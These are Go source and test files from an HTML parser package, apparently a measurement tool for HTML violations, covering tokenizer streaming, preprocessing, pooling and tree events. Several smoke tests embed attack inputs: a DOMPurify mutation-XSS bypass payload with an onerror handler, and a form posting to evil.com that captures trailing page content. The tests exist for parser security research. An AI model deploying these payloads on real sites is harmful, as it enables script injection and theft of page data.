	"refx":                "refX",
	"refy":                "refY",
	"repeatcount":         "repeatCount",
	"repeatdur":           "repeatDur",
	"requiredextensions":  "requiredExtensions",
	"requiredfeatures":    "requiredFeatures",
	"specularconstant":    "specularConstant",
	"specularexponent":    "specularExponent",
	"spreadmethod":        "spreadMethod",
	"startoffset":         "startOffset",
	"stddeviation":        "stdDeviation",
	"stitchtiles":         "stitchTiles",
	"surfacescale":        "surfaceScale",
	"systemlanguage":      "systemLanguage",
	"tablevalues":         "tableValues",
	"targetx":             "targetX",
	"targety":             "targetY",
	"textlength":          "textLength",
	"viewbox":             "viewBox",
	"viewtarget":          "viewTarget",
	"xchannelselector":    "xChannelSelector",
	"ychannelselector":    "yChannelSelector",
	"zoomandpan":          "zoomAndPan",
}

// mathMLTextIntegration are the MathML text integration points: their
// children are parsed with HTML rules (except for mglyph/malignmark).
var mathMLTextIntegration = newStringSet("mi", "mo", "mn", "ms", "mtext")

// svgHTMLIntegration are the SVG HTML integration points.
var svgHTMLIntegration = newStringSet("foreignObject", "desc", "title")
