package htmlparse

import (
	"context"
	"errors"
	"strings"
	"testing"
)

func TestParseReuseContextCompletesLikeParse(t *testing.T) {
	in := []byte("<!DOCTYPE html><p class=a>hello <b>world</b></p>")
	want, err := Parse(in)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseReuseContext(context.Background(), in, Options{RecordTokens: true})
	if err != nil {
		t.Fatal(err)
	}
	if dw, dg := DumpTree(want.Doc), DumpTree(got.Doc); dw != dg {
		t.Fatalf("context parse diverged from Parse:\nwant:\n%s\ngot:\n%s", dw, dg)
	}
	if len(got.Tokens) != len(want.Tokens) || len(got.Errors) != len(want.Errors) {
		t.Fatalf("tokens/errors mismatch: got %d/%d want %d/%d",
			len(got.Tokens), len(got.Errors), len(want.Tokens), len(want.Errors))
	}
}

func TestParseReuseContextCancellationAborts(t *testing.T) {
	// A document long enough that the cancel stride (512 tokens) is
	// crossed many times.
	in := []byte("<!DOCTYPE html>" + strings.Repeat("<p>x</p>", 20000))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	res, err := ParseReuseContext(ctx, in, Options{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if res != nil {
		t.Fatal("canceled parse returned a partial Result")
	}
}

func TestParseReuseContextDepthCap(t *testing.T) {
	deep := []byte("<!DOCTYPE html>" + strings.Repeat("<div>", 5000))
	_, err := ParseReuseContext(context.Background(), deep, Options{MaxTreeDepth: 256})
	if !errors.Is(err, ErrTreeDepthExceeded) {
		t.Fatalf("err = %v, want ErrTreeDepthExceeded", err)
	}
	// A shallow document under the same cap parses fine, and the pooled
	// parser that just aborted is safely reusable.
	res, err := ParseReuseContext(context.Background(), []byte("<p>ok</p>"), Options{MaxTreeDepth: 256})
	if err != nil {
		t.Fatalf("shallow parse after aborted deep parse: %v", err)
	}
	if res.Doc == nil {
		t.Fatal("shallow parse returned no tree")
	}
}

// TestParseReuseContextAbortThenReusePool interleaves aborted and
// successful parses to prove an abort never corrupts pooled scratch.
func TestParseReuseContextAbortThenReusePool(t *testing.T) {
	deep := []byte(strings.Repeat("<span>", 2000))
	good := []byte("<!DOCTYPE html><ul><li>a<li>b</ul>")
	wantDump := ""
	for i := 0; i < 50; i++ {
		if _, err := ParseReuseContext(context.Background(), deep, Options{MaxTreeDepth: 64}); !errors.Is(err, ErrTreeDepthExceeded) {
			t.Fatalf("round %d: deep parse err = %v, want ErrTreeDepthExceeded", i, err)
		}
		res, err := ParseReuseContext(context.Background(), good, Options{RecordTokens: true})
		if err != nil {
			t.Fatalf("round %d: good parse: %v", i, err)
		}
		d := DumpTree(res.Doc)
		if wantDump == "" {
			wantDump = d
		} else if d != wantDump {
			t.Fatalf("round %d: pooled parser corrupted by aborted parse:\n%s", i, d)
		}
	}
}
