package htmlparse

import (
	"testing"
)

// TestSmokeBasicDocument exercises the whole stack on a well-formed page.
func TestSmokeBasicDocument(t *testing.T) {
	const in = `<!DOCTYPE html><html lang="en"><head><title>Hi</title></head><body><p>Hello <b>world</b></p></body></html>`
	res, err := Parse([]byte(in))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	if len(res.Errors) != 0 {
		t.Fatalf("unexpected parse errors: %v", res.Errors)
	}
	if len(res.Events) != 0 {
		t.Fatalf("unexpected tree events: %v", res.Events)
	}
	html := res.Doc.Find(func(n *Node) bool { return n.IsElement("html") })
	if html == nil {
		t.Fatal("no html element")
	}
	if lang, _ := html.LookupAttr("lang"); lang != "en" {
		t.Fatalf("lang = %q, want en", lang)
	}
	title := res.Doc.Find(func(n *Node) bool { return n.IsElement("title") })
	if title == nil || title.Text() != "Hi" {
		t.Fatalf("title = %v", title)
	}
	b := res.Doc.Find(func(n *Node) bool { return n.IsElement("b") })
	if b == nil || b.Text() != "world" {
		t.Fatal("b element missing")
	}
	out := RenderString(res.Doc)
	want := `<!DOCTYPE html><html lang="en"><head><title>Hi</title></head><body><p>Hello <b>world</b></p></body></html>`
	if out != want {
		t.Fatalf("render:\n got %q\nwant %q", out, want)
	}
}

func TestSmokeErrorSignals(t *testing.T) {
	cases := []struct {
		name string
		in   string
		code ErrorCode
	}{
		{"FB1 slash between attributes", `<img/src="x"/onerror="a()">`, ErrUnexpectedSolidusInTag},
		{"FB2 missing whitespace", `<img src="u"onerror="a()">`, ErrMissingWhitespaceBetweenAttributes},
		{"DM3 duplicate attribute", `<div id="a" id="b">`, ErrDuplicateAttribute},
		{"nested form", `<form action="/a"><form action="/b"></form></form>`, ErrNestedFormElement},
		{"second body", `<body><body class="x">`, ErrSecondBodyStartTag},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res, err := Parse([]byte("<!DOCTYPE html><html><head></head><body>" + tc.in))
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if !res.HasError(tc.code) {
				t.Fatalf("want error %s, got %v", tc.code, res.Errors)
			}
		})
	}
}

func TestSmokeFosterParenting(t *testing.T) {
	res, err := Parse([]byte(`<!DOCTYPE html><body><table><tr><strong>Cozi</strong></tr><tr><td>x</td></tr></table>`))
	if err != nil {
		t.Fatal(err)
	}
	if got := res.EventsByKind(EventFosterParented); len(got) == 0 {
		t.Fatalf("no foster parenting events: %v", res.Events)
	}
	strong := res.Doc.Find(func(n *Node) bool { return n.IsElement("strong") })
	if strong == nil {
		t.Fatal("strong missing")
	}
	// The strong element must have been moved in front of the table.
	if strong.Ancestor("table") != nil {
		t.Fatal("strong still inside table")
	}
	table := res.Doc.Find(func(n *Node) bool { return n.IsElement("table") })
	if table == nil || strong.NextSibling != table {
		t.Fatalf("strong not immediately before table")
	}
}

func TestSmokeImpliedHeadBody(t *testing.T) {
	// Google's 404 page shape (paper Figure 12): no head, no body tags.
	res, err := Parse([]byte(`<!DOCTYPE html><html lang=en><meta charset=utf-8><title>Error 404</title><style>p{}</style><a href=//example.org/><span id=logo></span></a><p><b>404.</b>`))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.EventsByKind(EventImpliedHead)) != 1 {
		t.Fatalf("want implied head event, got %v", res.Events)
	}
	if len(res.EventsByKind(EventHeadBroken)) != 1 {
		t.Fatalf("want head broken event (a element), got %v", res.Events)
	}
	if len(res.EventsByKind(EventImpliedBody)) != 1 {
		t.Fatalf("want implied body event, got %v", res.Events)
	}
	// meta/title/style must be in head, a/p in body.
	meta := res.Doc.Find(func(n *Node) bool { return n.IsElement("meta") })
	if meta == nil || meta.Ancestor("head") == nil {
		t.Fatal("meta not in head")
	}
	a := res.Doc.Find(func(n *Node) bool { return n.IsElement("a") })
	if a == nil || a.Ancestor("body") == nil {
		t.Fatal("a not in body")
	}
}

func TestSmokeTextareaEOF(t *testing.T) {
	res, err := Parse([]byte(`<!DOCTYPE html><body><form action="https://evil.com"><input type="submit"><textarea><p>My little secret</p>`))
	if err != nil {
		t.Fatal(err)
	}
	var found bool
	for _, e := range res.EventsByKind(EventAutoClosedAtEOF) {
		if e.Detail == "textarea" {
			found = true
		}
	}
	if !found {
		t.Fatalf("textarea auto-close missing: %v", res.Events)
	}
	ta := res.Doc.Find(func(n *Node) bool { return n.IsElement("textarea") })
	if ta == nil || !ta.AutoClosedAtEOF {
		t.Fatal("textarea node not flagged")
	}
	if ta.Text() != "<p>My little secret</p>" {
		t.Fatalf("textarea swallowed content = %q", ta.Text())
	}
}

func TestSmokeForeignContent(t *testing.T) {
	// Breakout: <div> inside <svg> forces the parser back to HTML.
	res, err := Parse([]byte(`<!DOCTYPE html><body><svg><circle r="1"/><div>x</div>`))
	if err != nil {
		t.Fatal(err)
	}
	ev := res.EventsByKind(EventForeignBreakout)
	if len(ev) != 1 || ev[0].Namespace != NamespaceSVG || ev[0].Detail != "div" {
		t.Fatalf("breakout events = %v", res.Events)
	}
	div := res.Doc.Find(func(n *Node) bool { return n.IsElement("div") })
	if div == nil || div.Namespace != NamespaceHTML {
		t.Fatal("div not back in HTML namespace")
	}
	svg := res.Doc.Find(func(n *Node) bool { return n.Type == ElementNode && n.Data == "svg" })
	if svg == nil || svg.Namespace != NamespaceSVG {
		t.Fatal("svg namespace wrong")
	}

	// Detached foreign markup: <path> without <svg> (HF5_1).
	res, err = Parse([]byte(`<!DOCTYPE html><body><path d="M0 0"/>`))
	if err != nil {
		t.Fatal(err)
	}
	ev = res.EventsByKind(EventForeignElementInHTML)
	if len(ev) != 1 || ev[0].Detail != "path" || ev[0].Namespace != NamespaceSVG {
		t.Fatalf("foreign-element-in-html events = %v", res.Events)
	}
}

func TestSmokeMutationFigure1(t *testing.T) {
	// The Figure 1 DOMPurify bypass. Parse #1 (what a sanitizer sees): the
	// alert sits harmlessly inside a title attribute, and <style> is an
	// HTML element whose <!-- is inert raw text. Serializing and parsing
	// again (what the browser does with the sanitizer's output) moves
	// mglyph directly under mtext, so the whole chain stays in MathML,
	// <style> stops being raw text, <!-- opens a real comment that eats
	// the title attribute's opening, and the img payload materializes.
	const payload = `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`
	res1, err := ParseFragment([]byte(payload), "div")
	if err != nil {
		t.Fatal(err)
	}
	style := res1.Doc.Find(func(n *Node) bool { return n.Type == ElementNode && n.Data == "style" })
	if style == nil {
		t.Fatal("style missing after first parse")
	}
	if style.Namespace != NamespaceHTML {
		t.Fatalf("first parse: style namespace = %v, want html", style.Namespace)
	}
	evil := func(res *Result) *Node {
		return res.Doc.Find(func(n *Node) bool {
			if n.Type != ElementNode || n.Data != "img" {
				return false
			}
			_, ok := n.LookupAttr("onerror")
			return ok
		})
	}
	if evil(res1) != nil {
		t.Fatal("first parse must not contain the armed img element")
	}
	mutated := RenderString(res1.Doc)
	if !contains(mutated, `title="--><img src=1 onerror=alert(1)>"`) {
		t.Fatalf("mutation missing in %q", mutated)
	}
	res2, err := ParseFragment([]byte(mutated), "div")
	if err != nil {
		t.Fatal(err)
	}
	img := evil(res2)
	if img == nil {
		t.Fatalf("second parse did not materialize the payload: %q", RenderString(res2.Doc))
	}
	if v, _ := img.LookupAttr("onerror"); v != "alert(1)" {
		t.Fatalf("onerror = %q", v)
	}
	if img.Namespace != NamespaceHTML {
		t.Fatalf("img namespace = %v", img.Namespace)
	}
}

func contains(s, sub string) bool {
	return len(s) >= len(sub) && (func() bool {
		for i := 0; i+len(sub) <= len(s); i++ {
			if s[i:i+len(sub)] == sub {
				return true
			}
		}
		return false
	})()
}
