package htmlparse

import (
	"strings"
	"sync"
)

// TokenStream is the pull-based streaming front end to the tokenizer: it
// yields tokens one at a time with O(1) retained state, never accumulating
// a token slice, so a checker driving it runs in constant memory per
// document regardless of input size.
//
// The hard part of tokenizing without a tree builder is tokenizer
// feedback: the spec switches the tokenizer into RCDATA / RAWTEXT / script
// data states from the *tree construction* stage, and the correct switch
// depends on namespace context (a <style> inside <svg> is character data,
// not raw text — the distinction the Figure 1 mXSS abuses). TokenStream
// therefore disables AutoRaw and mirrors exactly the slice of tree state
// the tokenizer can observe: a stack of open foreign elements (with their
// integration-point flags) plus the HTML islands nested inside them, the
// in-select suppression mode, and the CDATA-permission rule. Everything
// else about tree construction is irrelevant to token identity.
//
// Where the mirror is knowingly approximate (a suppressing insertion mode
// interacting with a feedback tag, or an end tag the real parser resolves
// through scope rules), Hazard() reports true; the conformance suite uses
// that to scope the fuzzing invariant while still requiring exact
// stream≡tree agreement over the whole checked-in corpus.
//
// Contract: the Token returned by Next — including its Attr backing array
// — is valid only until the next Next call (attribute storage is
// recycled). Errors() is valid only until Close. Never mutate returned
// data; value strings may be zero-copy views into the input buffer (those
// stay valid indefinitely — the buffer is never pooled).
type TokenStream struct {
	z   Tokenizer
	pre *Preprocessed

	stack         []streamNode
	inSelect      bool
	rawEnd        string // pending appropriate end tag after a raw-text switch
	uncertain     bool
	sawSuppressor bool
	sawFeedback   bool

	errScratch []ParseError //hv:view recycled scratch behind Errors, reclaimed on Close
	cdata      func() bool
	fresh      bool
}

// streamNode is one open element the tokenizer-feedback mirror must track:
// foreign elements, their integration points, and the HTML elements nested
// inside integration-point islands. name is the raw lowercase token name
// (the tree builder's case adjustments never change identity under
// ASCII-lowercase, which is what end-tag matching uses).
type streamNode struct {
	name   string
	ns     Namespace
	htmlIP bool
	textIP bool
}

// svgHTMLIntegrationLower is svgHTMLIntegration keyed by the raw lowercase
// token name, before the tree builder's svgTagAdjustments case-fix.
var svgHTMLIntegrationLower = newStringSet("foreignobject", "desc", "title")

var tokenStreamPool = sync.Pool{New: func() any {
	ts := &TokenStream{fresh: true}
	// Bind the CDATA hook once per TokenStream; reset re-installs the same
	// closure so reuse costs no allocation. Mirrors the tree builder's
	// rule: <![CDATA[ opens a section only in foreign content.
	ts.cdata = func() bool {
		if n := ts.top(); n != nil {
			return n.ns != NamespaceHTML
		}
		return false
	}
	return ts
}}

// NewTokenStream preprocesses b and returns a pooled TokenStream over it.
// The only error is ErrNotUTF8 (same domain as Parse). Callers must Close
// the stream to recycle its scratch state.
func NewTokenStream(b []byte) (*TokenStream, error) {
	pre, err := Preprocess(b)
	if err != nil {
		return nil, err
	}
	ts := tokenStreamPool.Get().(*TokenStream)
	if m := metrics.Load(); m != nil {
		if ts.fresh {
			m.poolMisses.Inc()
		} else {
			m.poolHits.Inc()
		}
	}
	ts.fresh = false
	ts.reset(pre)
	return ts, nil
}

func (ts *TokenStream) reset(pre *Preprocessed) {
	z := &ts.z
	*z = Tokenizer{
		input:       pre.Input,
		line:        1,
		col:         1,
		state:       stateData,
		queue:       z.queue[:0],
		textBuf:     z.textBuf[:0],
		attrName:    z.attrName[:0],
		attrValue:   z.attrValue[:0],
		attrRaw:     z.attrRaw[:0],
		tmpBuf:      z.tmpBuf[:0],
		errors:      z.errors[:0],
		reuseAttrs:  true,
		attrScratch: z.attrScratch[:0],
	}
	z.AllowCDATA = ts.cdata
	ts.pre = pre
	ts.stack = ts.stack[:0]
	ts.inSelect = false
	ts.rawEnd = ""
	ts.uncertain = false
	ts.sawSuppressor = false
	ts.sawFeedback = false
	ts.errScratch = ts.errScratch[:0]
}

// Close recycles the stream's scratch state. The zero-copy strings handed
// out in tokens remain valid (they view the input buffer, which is not
// pooled); the error slice and any retained Token.Attr do not.
func (ts *TokenStream) Close() {
	ts.pre = nil
	tokenStreamPool.Put(ts)
}

// Next returns the next token, driving the tokenizer-feedback mirror as a
// side effect. After the input is exhausted it returns EOFToken forever.
//
//hv:view the Token and its Attr backing are valid only until the next Next call
func (ts *TokenStream) Next() Token {
	t := ts.z.Next()
	switch t.Type {
	case StartTagToken:
		ts.observeStart(&t)
	case EndTagToken:
		ts.observeEnd(&t)
	}
	return t
}

// Errors returns the preprocessing errors followed by the tokenizer errors
// recorded so far, in input order within each stage. The slice is scratch:
// valid only until Close.
//
//hv:view the slice is errScratch, reclaimed when the stream is closed
func (ts *TokenStream) Errors() []ParseError {
	ts.errScratch = append(ts.errScratch[:0], ts.pre.Errors...)
	ts.errScratch = append(ts.errScratch, ts.z.errors...)
	return ts.errScratch
}

// Hazard reports whether the input crossed a construct where the feedback
// mirror is knowingly approximate, so stream-mode tokens could in
// principle diverge from tree-mode tokens: an end tag the real parser
// would resolve through scope rules, or a suppressing insertion mode
// (select/frameset/template) coexisting with feedback-relevant tags.
func (ts *TokenStream) Hazard() bool {
	return ts.uncertain || (ts.sawSuppressor && ts.sawFeedback)
}

func (ts *TokenStream) top() *streamNode {
	if len(ts.stack) == 0 {
		return nil
	}
	return &ts.stack[len(ts.stack)-1]
}

// observeStart mirrors useForeignRules' dispatch for a start tag: decide
// whether the token is handled by HTML rules or foreign-content rules.
func (ts *TokenStream) observeStart(t *Token) {
	if n := ts.top(); n != nil && n.ns != NamespaceHTML {
		if n.textIP && t.Data != "mglyph" && t.Data != "malignmark" {
			ts.htmlStart(t)
			return
		}
		if n.ns == NamespaceMathML && n.name == "annotation-xml" && t.Data == "svg" {
			ts.htmlStart(t)
			return
		}
		if n.htmlIP {
			ts.htmlStart(t)
			return
		}
		ts.foreignStart(t)
		return
	}
	ts.htmlStart(t)
}

// htmlStart applies the HTML-side tokenizer feedback for a start tag: raw
// text switches, foreign-content entries, and the suppression modes whose
// "ignore the token" behaviour blocks those switches.
func (ts *TokenStream) htmlStart(t *Token) {
	if ts.inSelect {
		// In-select insertion mode ignores almost every start tag; the
		// exceptions below are the ones with tokenizer-visible effects
		// (spec 13.2.6.4.16).
		switch t.Data {
		case "script":
			ts.sawFeedback = true
			ts.rawEnd = t.Data
			ts.z.StartRawText(t.Data)
		case "textarea":
			// Pops the select and reprocesses: the textarea then switches
			// the tokenizer into RCDATA as usual.
			ts.inSelect = false
			ts.sawFeedback = true
			ts.rawEnd = t.Data
			ts.z.StartRawText(t.Data)
		case "select", "input", "keygen":
			ts.inSelect = false
		case "template":
			ts.sawSuppressor = true
		}
		return
	}
	switch t.Data {
	case "svg", "math":
		ts.sawFeedback = true
		if !t.SelfClosing {
			ns := NamespaceSVG
			if t.Data == "math" {
				ns = NamespaceMathML
			}
			ts.stack = append(ts.stack, streamNode{name: t.Data, ns: ns})
		}
		return
	case "select":
		ts.inSelect = true
		ts.sawSuppressor = true
		return
	case "frameset", "template":
		ts.sawSuppressor = true
		return
	case "html", "head", "body":
		return
	}
	if _, ok := rawTextTags[t.Data]; ok {
		// The generic raw text / RCDATA algorithms switch unconditionally —
		// including for a (meaningless) self-closing flag, which the tree
		// builder ignores on non-void HTML elements.
		ts.sawFeedback = true
		ts.rawEnd = t.Data
		ts.z.StartRawText(t.Data)
		return
	}
	if len(ts.stack) > 0 && !voidElements[t.Data] {
		// An HTML element inside an integration-point island. Tracking it
		// keeps end-tag bookkeeping aligned, but HTML scope rules (implied
		// end tags, adoption agency) can close elements we keep open, so
		// the mirror is approximate from here on.
		ts.stack = append(ts.stack, streamNode{name: t.Data, ns: NamespaceHTML})
		ts.uncertain = true
	}
}

// foreignStart mirrors foreignIM for a start tag: breakout elements pop
// the foreign run and reprocess as HTML; everything else nests, recording
// integration points.
func (ts *TokenStream) foreignStart(t *Token) {
	breakout := breakoutElements[t.Data]
	if t.Data == "font" {
		breakout = false
		for _, a := range t.Attr {
			switch a.Name {
			case "color", "face", "size":
				breakout = true
			}
		}
	}
	if breakout {
		ts.popForeignRun()
		ts.observeStart(t)
		return
	}
	ns := ts.top().ns
	if t.SelfClosing {
		return
	}
	n := streamNode{name: t.Data, ns: ns}
	if ns == NamespaceSVG {
		n.htmlIP = svgHTMLIntegrationLower[t.Data]
	} else {
		n.textIP = mathMLTextIntegration[t.Data]
		if t.Data == "annotation-xml" {
			for _, a := range t.Attr {
				if a.Name == "encoding" &&
					(strings.EqualFold(a.Value, "text/html") ||
						strings.EqualFold(a.Value, "application/xhtml+xml")) {
					n.htmlIP = true
				}
			}
		}
	}
	ts.stack = append(ts.stack, n)
}

// popForeignRun mirrors popForeign: pop until the top is an integration
// point, an HTML island element, or the stack is empty.
func (ts *TokenStream) popForeignRun() {
	for len(ts.stack) > 0 {
		n := ts.top()
		if n.ns == NamespaceHTML || n.htmlIP || n.textIP {
			return
		}
		ts.stack = ts.stack[:len(ts.stack)-1]
	}
}

// observeEnd mirrors the end-tag side: raw-text end tags are pure
// tokenizer bookkeeping, in-select end tags only toggle the suppression
// mode, and stack matching follows foreignIM's scan.
func (ts *TokenStream) observeEnd(t *Token) {
	if ts.rawEnd != "" {
		// In a raw-text state the tokenizer emits only the appropriate end
		// tag, so this must be it; anything else means the mirror lost the
		// plot.
		if t.Data != ts.rawEnd {
			ts.uncertain = true
		}
		ts.rawEnd = ""
		return
	}
	if ts.inSelect {
		switch t.Data {
		case "select", "table", "caption", "tbody", "tfoot", "thead", "tr", "td", "th":
			ts.inSelect = false
		}
		return
	}
	if len(ts.stack) == 0 {
		return
	}
	if ts.top().ns == NamespaceHTML {
		// Scan the contiguous HTML island run; a miss means the real
		// parser resolves the tag through scope rules (already flagged
		// uncertain at push time).
		for i := len(ts.stack) - 1; i >= 0; i-- {
			if ts.stack[i].ns != NamespaceHTML {
				break
			}
			if ts.stack[i].name == t.Data {
				ts.stack = ts.stack[:i]
				return
			}
		}
		return
	}
	// Foreign top: foreignIM scans down the contiguous foreign run for a
	// case-folded name match and pops through it; a miss hands the tag to
	// the HTML insertion mode, which may close elements we keep open.
	for i := len(ts.stack) - 1; i >= 0; i-- {
		if ts.stack[i].ns == NamespaceHTML {
			break
		}
		if ts.stack[i].name == t.Data {
			ts.stack = ts.stack[:i]
			return
		}
	}
	ts.uncertain = true
}
