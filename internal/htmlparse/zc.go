package htmlparse

import "unsafe"

// zcString returns a string view of b without copying.
//
// Every call sites b inside the parser's preprocessed input buffer, which
// is freshly allocated by Preprocess for each parse and never written
// again once tokenization starts — including under ParseReuse, where only
// the parser scratch is recycled, never the input buffer. The returned
// string keeps that buffer reachable, so lifetimes stay GC-managed; the
// trade-off is that a retained token or node pins its whole source page,
// which suits the measurement pipeline's parse-then-discard shape.
//
//hv:view the result aliases b's backing memory byte for byte
func zcString(b []byte) string {
	if len(b) == 0 {
		return ""
	}
	return unsafe.String(unsafe.SliceData(b), len(b))
}
