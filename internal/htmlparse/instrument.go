package htmlparse

import (
	"sync/atomic"

	"github.com/hvscan/hvscan/internal/obs"
)

// parserMetrics carries the reuse-machinery counters. The package-level
// atomic pointer keeps the hot path to one load when no registry is
// installed (tests, one-shot tools) and makes Instrument safe to call
// concurrently with parses.
type parserMetrics struct {
	poolHits   *obs.Counter
	poolMisses *obs.Counter
	arenaSlabs *obs.Counter
	arenaNodes *obs.Counter
}

var metrics atomic.Pointer[parserMetrics]

// Instrument registers the parser's reuse metrics on reg and starts
// recording: pool hit/miss counts from ParseReuse's sync.Pool, and arena
// slab/node totals added once per completed parse.
func Instrument(reg *obs.Registry) {
	m := &parserMetrics{
		poolHits:   reg.Counter("htmlparse_pool_hits_total"),
		poolMisses: reg.Counter("htmlparse_pool_misses_total"),
		arenaSlabs: reg.Counter("htmlparse_arena_slabs_total"),
		arenaNodes: reg.Counter("htmlparse_arena_nodes_total"),
	}
	metrics.Store(m)
}
