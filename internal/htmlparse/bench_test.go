package htmlparse

import (
	"os"
	"path/filepath"
	"testing"
)

// The perf-trajectory gate (cmd/hvbench, DESIGN.md §12) runs these
// benchmarks against the checked-in BENCH_baseline.json: they measure the
// tokenizer and full parse directly over three checked-in representative
// pages, so a hot-path regression fails CI even when the full-pipeline
// benchmarks would hide it behind archive and rule-engine time.
//
//	small        ~1 KB   minimal well-formed article page
//	typical      ~48 KB  synthetic-corpus page, the pipeline's median case
//	pathological ~41 KB  deep nesting, attribute storms, foster parenting,
//	                     entity runs, long comments and raw text
var benchPages = []string{"small", "typical", "pathological"}

func benchPage(b *testing.B, name string) []byte {
	b.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", "bench", name+".html"))
	if err != nil {
		b.Fatal(err)
	}
	return data
}

// BenchmarkTokenize drives the tokenizer alone (no tree construction)
// over each fixture; MB/s here is the ceiling for every downstream stage.
func BenchmarkTokenize(b *testing.B) {
	for _, name := range benchPages {
		b.Run(name, func(b *testing.B) {
			input := benchPage(b, name)
			pre, err := Preprocess(input)
			if err != nil {
				b.Fatal(err)
			}
			b.SetBytes(int64(len(pre.Input)))
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				z := NewTokenizer(pre.Input)
				for {
					if t := z.Next(); t.Type == EOFToken {
						break
					}
				}
			}
		})
	}
}

// BenchmarkParse is the full parse (preprocess, tokenize, tree
// construction) through the public entry point, one fresh parser per
// document.
func BenchmarkParse(b *testing.B) {
	for _, name := range benchPages {
		b.Run(name, func(b *testing.B) {
			input := benchPage(b, name)
			b.SetBytes(int64(len(input)))
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := Parse(input); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
