package htmlparse

import (
	"errors"
	"unicode/utf8"
)

// ErrNotUTF8 reports that the input byte stream is not valid UTF-8. The
// measurement pipeline filters such documents out instead of guessing the
// encoding, exactly as the paper does (section 4.1): the benefit of
// supporting 45+ legacy encodings is negligible compared to the risk of
// mis-decoding skewing the results.
var ErrNotUTF8 = errors.New("htmlparse: input is not valid UTF-8")

// Preprocessed is the output of the input stream preprocessor: a normalized
// character stream plus any parse errors raised during normalization.
type Preprocessed struct {
	// Input is valid UTF-8 with all CR and CRLF sequences replaced by LF.
	Input []byte
	// Errors holds noncharacter / control character stream errors.
	Errors []ParseError
}

// Preprocess implements the Byte Stream Decoder and Input Stream
// Preprocessor stages of the HTML parsing process (spec 13.2.3):
//
//   - it verifies the stream decodes as UTF-8 (returning ErrNotUTF8
//     otherwise, so callers can filter the document),
//   - it normalizes newlines by replacing CRLF pairs and lone CR with LF,
//   - it reports surrogate-in-input-stream, noncharacter-in-input-stream
//     and control-character-in-input-stream parse errors.
//
// NUL bytes are preserved here; the tokenizer handles them per-state
// (unexpected-null-character).
func Preprocess(b []byte) (*Preprocessed, error) {
	if !utf8.Valid(b) {
		return nil, ErrNotUTF8
	}
	p := &Preprocessed{Input: make([]byte, 0, len(b))}
	line, col := 1, 1
	for i := 0; i < len(b); {
		// Bulk-copy runs of plain ASCII (no normalization, no stream error,
		// no line break) in one append; the rune-at-a-time path below only
		// sees newlines, CRs, controls and non-ASCII.
		if j := i; preSafe[b[j]] {
			for j++; j < len(b) && preSafe[b[j]]; j++ {
			}
			p.Input = append(p.Input, b[i:j]...)
			col += j - i
			i = j
			continue
		}
		r, size := utf8.DecodeRune(b[i:])
		switch {
		case r == '\r':
			// CRLF -> LF, lone CR -> LF.
			if i+1 < len(b) && b[i+1] == '\n' {
				i++
			}
			p.Input = append(p.Input, '\n')
			i++
			line++
			col = 1
			continue
		case isNoncharacter(r):
			p.Errors = append(p.Errors, ParseError{
				Code: ErrNoncharacterInInputStream,
				Pos:  Position{Offset: len(p.Input), Line: line, Col: col},
			})
		case isBadControl(r):
			p.Errors = append(p.Errors, ParseError{
				Code: ErrControlCharacterInInputStream,
				Pos:  Position{Offset: len(p.Input), Line: line, Col: col},
			})
		}
		p.Input = append(p.Input, b[i:i+size]...)
		if r == '\n' {
			line++
			col = 1
		} else {
			col++
		}
		i += size
	}
	return p, nil
}

// preSafe marks the bytes Preprocess may copy verbatim without position
// or error bookkeeping: printable ASCII plus TAB, FF and NUL (NUL passes
// through here — the tokenizer flags it per-state).
var preSafe = makePreSafeTable()

func makePreSafeTable() *[256]bool {
	var t [256]bool
	t[0x00], t['\t'], t['\f'] = true, true, true
	for b := 0x20; b < 0x7F; b++ {
		t[b] = true
	}
	return &t
}

// isNoncharacter reports whether r is a Unicode noncharacter
// (U+FDD0..U+FDEF and the last two code points of every plane).
func isNoncharacter(r rune) bool {
	if r >= 0xFDD0 && r <= 0xFDEF {
		return true
	}
	return r&0xFFFE == 0xFFFE && r <= 0x10FFFF
}

// isBadControl reports whether r is a control character that the input
// stream preprocessor flags: C0 controls other than NUL and ASCII
// whitespace, plus DEL and the C1 range.
func isBadControl(r rune) bool {
	switch r {
	case 0, '\t', '\n', '\f', '\r', ' ':
		return false
	}
	return (r >= 0 && r < 0x20) || (r >= 0x7F && r <= 0x9F)
}
