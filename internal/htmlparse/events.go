package htmlparse

import "fmt"

// EventKind identifies a corrective action the tree builder performed while
// tolerating erroneous input. The violation rules in internal/core are
// defined over this event stream plus the tokenizer's parse errors.
type EventKind int

const (
	// EventImpliedHead records that a <head> element was synthesized
	// because the document never opened one explicitly (an HF1 signal).
	EventImpliedHead EventKind = iota
	// EventImpliedBody records that a <body> element was synthesized
	// because content appeared before any <body> start tag (the HF2
	// signal).
	EventImpliedBody
	// EventHeadBroken records a non-head element inside the head section,
	// which forced an implicit </head>; the element and everything after
	// it lands in the body (an HF1 signal).
	EventHeadBroken
	// EventMetadataAfterHead records a metadata element (meta, base, link,
	// title, style, script, ...) appearing after the head was closed; the
	// parser reroutes it (an HF1 signal, and input to DM1/DM2).
	EventMetadataAfterHead
	// EventMetaInBody records a meta element inserted while in the body
	// (the DM1 signal when it carries http-equiv).
	EventMetaInBody
	// EventBaseInBody records a base element inserted while in the body
	// (the DM2_1 signal).
	EventBaseInBody
	// EventFosterParented records a node that was re-parented in front of
	// the nearest table because it is not allowed inside table content
	// (the HF4 signal). Detail is the tag name or "#text".
	EventFosterParented
	// EventNestedForm records a form start tag that was ignored because a
	// form element is already open (the DE4 signal).
	EventNestedForm
	// EventSecondBody records a second <body> start tag whose attributes
	// were merged into the existing body (the HF3 signal).
	EventSecondBody
	// EventForeignBreakout records an HTML element that forced the parser
	// out of foreign (SVG or MathML) content (the HF5_2/HF5_3 signal).
	// Namespace is the namespace that was abandoned.
	EventForeignBreakout
